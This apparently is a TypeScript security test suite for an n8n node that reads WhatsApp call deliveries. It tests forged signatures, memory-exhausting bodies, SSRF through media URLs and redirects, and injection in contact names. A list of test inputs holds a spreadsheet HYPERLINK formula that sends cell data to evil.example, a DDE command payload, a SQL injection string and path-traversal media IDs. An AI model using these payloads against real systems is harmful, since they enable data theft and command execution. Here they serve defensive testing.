import type { CreatedRecording, WebhookUpdate } from '../../emulator';
import { NUMBER, PERSON } from '../support/constants';
import type { Item } from '../support/n8n';
import { ACTION_TYPE, chain, node, using, webhookNode } from '../support/workflow';
import { bytesOfSecrets, fileOf, type AttackStage, type Sending } from './attackStage';
import { NOTHING_IN_THEM, UNREADABLE, wrapped, type Body } from './bodies';
import { GRAPH_HOST, MEDIA_HOST, redirectTo, sendJson } from './internet';
import { KINDS } from './mediaUrls';
import { HARMFUL } from './names';
import { FORGERIES } from './signature';

const READ = 'Read';

const MEBIBYTE = 1024 * 1024;

/** The most that is read. */
const MOST_BYTES = 4 * MEBIBYTE;

/** n8n does not parse it: all of it comes to the node. */
const BYTES = { 'content-type': 'application/octet-stream' };

/** What the engine's tests do not have: what may take the time or the memory of n8n, or change its objects. */
const BODIES: Body[] = [
	...NOTHING_IN_THEM.filter(({ name }) => /levels|the key/.test(name)),
	{ name: '16 MB of brackets', make: () => '['.repeat(4 * MOST_BYTES) },
	{ name: '4 MB of brackets', make: () => '['.repeat(MOST_BYTES) },
	{ name: '4 MB of digits', make: () => '1'.repeat(MOST_BYTES) },
	{ name: '4 MB of calls that are none', make: () => wrapped(`${'{},'.repeat(MEBIBYTE)}{}`) },
	{
		name: '4 MB of names of events',
		make: () =>
			wrapped(Array.from({ length: 100_000 }, (_, n) => `{"event":"e${n}","id":"1"}`).join(',')),
	},
];

/** In cells of a spreadsheet, messages and pages: what becomes more than a text there. */
const MARKUP = [
	'=HYPERLINK("https://evil.example/?"&A1,"Ana")',
	"+cmd|'/c calc'!A1",
	'@SUM(A1:A9)',
	'-1+1',
	'[Ana](https://evil.example)',
	'<!channel> <https://evil.example|Ana>',
	'*Ana* https://evil.example',
	"'; DROP TABLE calls; --",
	'{{ $json }}',
];

/** Addresses that would be requested, with the token, if Meta had named them. */
const ALLOWED: Array<[string, string]> = [
	['a media host', `https://${MEDIA_HOST}/whatsapp_business/attachments/?mid=1`],
	['the Graph API', `https://${GRAPH_HOST}/v26.0/me`],
];

/** Of the addresses and redirects of files, one for each check. */
const SOME_KINDS = KINDS.filter(([name]) =>
	['another host', 'http at the right host', 'a method at the Graph API'].includes(name),
);

/** *Delivery > Read* behind a Webhook node of n8n, as in the example. */
export function deliveryAttacks(stage: () => AttackStage): void {
	/** By the parameters of the node. */
	const urls = new Map<string, string>();

	async function urlOf(parameters: Record<string, unknown>, rawBody: boolean): Promise<string> {
		const key = JSON.stringify([parameters, rawBody]);
		const known = urls.get(key);
		if (known !== undefined) return known;
		const { api, url } = stage().n8n;
		const path = `own-${urls.size}`;
		const nodes = [
			webhookNode('Webhook', 'n8n-nodes-base.webhook', 2, {
				httpMethod: 'POST',
				path,
				responseMode: 'lastNode',
				options: rawBody ? { rawBody } : {},
			}),
			node(
				READ,
				ACTION_TYPE,
				1,
				{ resource: 'delivery', operation: 'read', ...parameters },
				{ onError: 'continueRegularOutput', credentials: using(stage().credential) },
			),
		];
		const { id } = await api.createWorkflow({ name: path, nodes, connections: chain(nodes) });
		await api.activate(id);
		urls.set(key, `${url}/webhook/${path}`);
		return `${url}/webhook/${path}`;
	}

	interface Outcome {
		items: Item[];
		/** What Meta's hosts were asked for. */
		asked: URL[];
	}

	/** Sends a delivery to the Webhook node, signed unless it says otherwise. */
	async function read(
		body: Buffer | string,
		sending: Sending = {},
		parameters: Record<string, unknown> = {},
		rawBody = true,
	): Promise<Outcome> {
		const url = await urlOf(parameters, rawBody);
		const { emulator, internet } = stage();
		let asked: URL[] = [];
		const [execution] = await stage().survives(async () => {
			const before = { served: internet.served.length, requests: emulator.requests.length };
			const log = stage().n8n.log.text().length;
			const headers = { ...BYTES, ...sending.headers };
			const { status, body: answer } = await stage().deliver(body, { ...sending, url, headers });
			expect(status).not.toBe(0);
			expect(bytesOfSecrets(answer)).toBe(0);
			asked = internet.served.slice(before.served).map((request) => new URL(request.url));
			const methods = emulator.requests.slice(before.requests).map(({ method }) => method);
			expect(methods.filter((method) => method !== 'GET')).toEqual([]);
			expect(stage().n8n.log.text().slice(log)).not.toMatch(/^(X-Injected|FORGED)|\u001b/m);
		}, 1);
		expect(bytesOfSecrets(JSON.stringify(execution?.nodes))).toBe(0);
		return { items: execution?.items(READ) ?? [], asked };
	}

	const hostsOf = ({ asked }: Outcome) => asked.map(({ host }) => host);
	const bodyOf = (updates: WebhookUpdate[] | CreatedRecording[]) =>
		stage().emulator.deliver(updates, { url: 'http://127.0.0.1:9/', redeliver: false }).record.body;

	/** A delivery that is taken for none of Meta's: an error with this reason, and nothing else. */
	function expectRefused({ items, asked }: Outcome, reason: RegExp) {
		expect(asked).toEqual([]);
		expect(items).toEqual([
			expect.objectContaining({
				json: {
					error: expect.objectContaining({
						reason: expect.stringMatching(reason) as string,
					}) as unknown,
				},
			}),
		]);
		expect(items[0]).not.toHaveProperty('binary');
	}

	describe('signatures', () => {
		it.each(FORGERIES)(
			'A delivery is an error if its signature is %s, and the error does not name the right one',
			async (_, forge) => {
				const body = stage().body(await stage().recording());
				const outcome = await read(body, { headers: forge(stage(), body) });
				expectRefused(outcome, /^signature(Missing|Invalid)$/);
				expect(JSON.stringify(outcome.items)).not.toContain(stage().signature(body).slice(7));
			},
		);

		it.each<[string, string, string]>([
			['parsed by n8n', '={{ $json.body }}', 'signatureUnverifiable'],
			['parsed by n8n and written anew', '={{ JSON.stringify($json.body) }}', 'signatureInvalid'],
			['cut off', '={{ JSON.stringify($json.body).slice(0, -1) }}', 'signatureInvalid'],
		])('A delivery is an error if its body was %s', async (_, body, reason) => {
			const outcome = await read(
				stage().body(await stage().recording()),
				{ headers: { 'content-type': 'application/json' } },
				{ bodyFrom: 'text', body },
				false,
			);
			expectRefused(outcome, new RegExp(`^${reason}$`));
		});

		it('A delivery that is sent again gives the same item, by which the workflow recognizes it', async () => {
			const recording = await stage().recording();
			const body = stage().body(recording);
			const [first, second] = [await read(body), await read(body)];
			expect(first.items.map(({ json }) => json)).toEqual([
				expect.objectContaining({
					callId: recording.callId,
					recording: expect.objectContaining({
						mediaId: recording.mediaId,
						verified: true,
					}) as unknown,
				}),
			]);
			expect(second.items.map(({ json }) => json)).toEqual(first.items.map(({ json }) => json));
			expect([hostsOf(first), hostsOf(second)]).toEqual([[MEDIA_HOST], [MEDIA_HOST]]);
		});
	});

	describe('signed bodies', () => {
		it.each(BODIES.map((body) => [body.name, body] as const))(
			'A body of %s gives no item',
			async (_, { make }) => {
				const body = make(stage().body(await stage().recording()));
				await stage().withinMemory('body', async () => {
					const { items, asked } = await read(body);
					expect(asked).toEqual([]);
					expect(items.filter(({ json }) => !('error' in json))).toEqual([]);
				});
			},
		);

		it.each(UNREADABLE.map((body) => [body.name, body] as const))(
			'A recording with %s becomes an item with an error',
			async (_, { make }) => {
				const { items, asked } = await read(make(''));
				expect(asked).toEqual([]);
				expect(items).toMatchObject([
					{ json: { recording: { mediaId: null, error: { reason: 'unreadable' } } } },
				]);
			},
		);
	});

	describe('URLs of files', () => {
		function expectNotDownloaded({ items }: Outcome) {
			expect(items).toMatchObject([
				{ json: { recording: { verified: false, error: { reason: 'hostNotAllowed' } } } },
			]);
			expect(items[0]).not.toHaveProperty('binary');
		}

		/** The URL of the Media API was asked for, and only that was requested. */
		function expectOnlyOfMediaApi({ items, asked }: Outcome, recording: CreatedRecording) {
			expect(asked.map(({ host, pathname }) => [host, pathname])).toEqual([
				[GRAPH_HOST, `/v26.0/${recording.mediaId}`],
				[MEDIA_HOST, '/whatsapp_business/attachments/'],
			]);
			expect(asked[1].searchParams.get('mid')).toBe(recording.media.attachmentId);
			expect(items).toMatchObject([{ json: { recording: { verified: true } } }]);
		}

		it.each(KINDS)(
			'A file is not downloaded from a URL in a signed delivery with %s, but from that of the Media API',
			async (_, url) => {
				const recording = await stage().recording();
				fileOf(recording).url = url;
				expectOnlyOfMediaApi(await read(stage().body(recording)), recording);
			},
		);

		it.each(SOME_KINDS)(
			'A file is not downloaded from a URL of the Media API with %s',
			async (_, url) => {
				const recording = await stage().recording();
				fileOf(recording).url = undefined;
				const info = { url, sha256: recording.media.sha256Hex, mime_type: 'audio/ogg' };
				await stage().internet.mediaApi(recording, sendJson(info), async () => {
					const outcome = await read(stage().body(recording));
					expectNotDownloaded(outcome);
					expect(hostsOf(outcome)).toEqual([GRAPH_HOST]);
				});
			},
		);

		it.each(SOME_KINDS)(
			'A redirect of the media host is not followed to %s',
			async (_, location) => {
				const recording = await stage().recording();
				await stage().internet.mediaHost(recording, redirectTo(location), async () => {
					const outcome = await read(stage().body(recording));
					expectNotDownloaded(outcome);
					expect(hostsOf(outcome)).toEqual([MEDIA_HOST]);
				});
			},
		);

		// Someone who may use the credential, but not read it, can send such a delivery to a workflow of their own.
		it.each([...KINDS, ...ALLOWED])(
			'A URL in a delivery that is not verified is not requested: one with %s',
			async (_, url) => {
				const recording = await stage().recording();
				fileOf(recording).url = url;
				const headers = { 'x-hub-signature-256': undefined };
				const parameters = { verifySignature: false };
				const outcome = await read(stage().body(recording), { headers }, parameters);
				expectOnlyOfMediaApi(outcome, recording);
			},
		);

		it.each(['1?method=delete', `1/subscribed_apps?method=delete&x=`, '../1'])(
			'A media ID of %s in a delivery that is not verified is not requested',
			async (id) => {
				const recording = await stage().recording();
				fileOf(recording).id = id;
				const { items, asked } = await read(
					stage().body(recording),
					{ headers: { 'x-hub-signature-256': undefined } },
					{ verifySignature: false },
				);
				expect(asked).toEqual([]);
				expect(items).toMatchObject([{ json: { recording: { error: { reason: 'unreadable' } } } }]);
			},
		);
	});

	it('Names and payloads arrive as the texts that they are, and forge no line of the log', async () => {
		const texts = [...HARMFUL.map(([, text]) => text), ...MARKUP];
		const updates = texts.map(
			(text, n): WebhookUpdate => ({
				phoneNumberId: NUMBER,
				field: 'calls',
				value: {
					contacts: [{ wa_id: PERSON, profile: { name: text } }],
					calls: [
						{
							id: `wacid.${n}`,
							event: 'connect',
							from: PERSON,
							direction: 'USER_INITIATED',
							deeplink_payload: text,
							cta_payload: text,
						},
					],
				},
			}),
		);
		const { items, asked } = await read(bodyOf(updates), {}, { events: ['connect'] });
		expect(asked).toEqual([]);
		expect(
			items.map(({ json }) => [json.contactName, json.deeplinkPayload, json.ctaPayload]),
		).toEqual(texts.map((text) => [text, text, text]));
	});
}
